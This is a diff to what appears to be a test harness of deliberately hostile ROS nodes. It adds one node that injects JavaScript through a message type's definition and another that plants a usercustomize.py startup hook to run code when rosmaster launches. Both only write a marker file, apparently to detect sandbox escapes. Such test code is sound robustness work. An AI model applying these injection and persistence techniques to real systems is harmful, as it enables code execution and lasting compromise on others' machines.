@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 """Nodes of a graph as nobody should make them. Each attack says that it is over, and stays."""
-import socket, struct, sys, threading, time
+import os, site, socket, struct, sys, threading, time
 from xmlrpc.client import ServerProxy
 from xmlrpc.server import SimpleXMLRPCServer
 
@@ -88,6 +88,32 @@ def own_description():
             pass
 
     publish('/cmd_vel', 'geometry_msgs/Twist', handle).wait()
+
+
+def code_as_description():
+    """A type called as a piece of JavaScript, which whoever makes a program of the description would run."""
+    code = r"process.getBuiltinModule('fs').writeFileSync('\x2fws\x2fescaped','')"
+    description = f'uint8 a\n====\nMSG: prototype[{code}]\nuint8 b'
+
+    def handle(connection):
+        connection.sendall(header(callerid=ME, type='hostile/Trap', md5sum='*', message_definition=description))
+        connection.settimeout(2)
+        try:
+            while connection.recv(65536):
+                pass
+        except OSError:
+            pass
+
+    publish('/trap', 'hostile/Trap', handle).wait()
+
+
+def code_beside_python():
+    """What every Python of this user runs first, left where the next master would find it."""
+    packages = site.getusersitepackages()
+    os.makedirs(packages, exist_ok=True)
+    with open(os.path.join(packages, 'usercustomize.py'), 'w') as customize:
+        customize.write("if 'rosmaster' in open('/proc/self/cmdline').read(): open('/ws/escaped', 'w')\n")
+    end_master()
 
 
 def endless_answer():
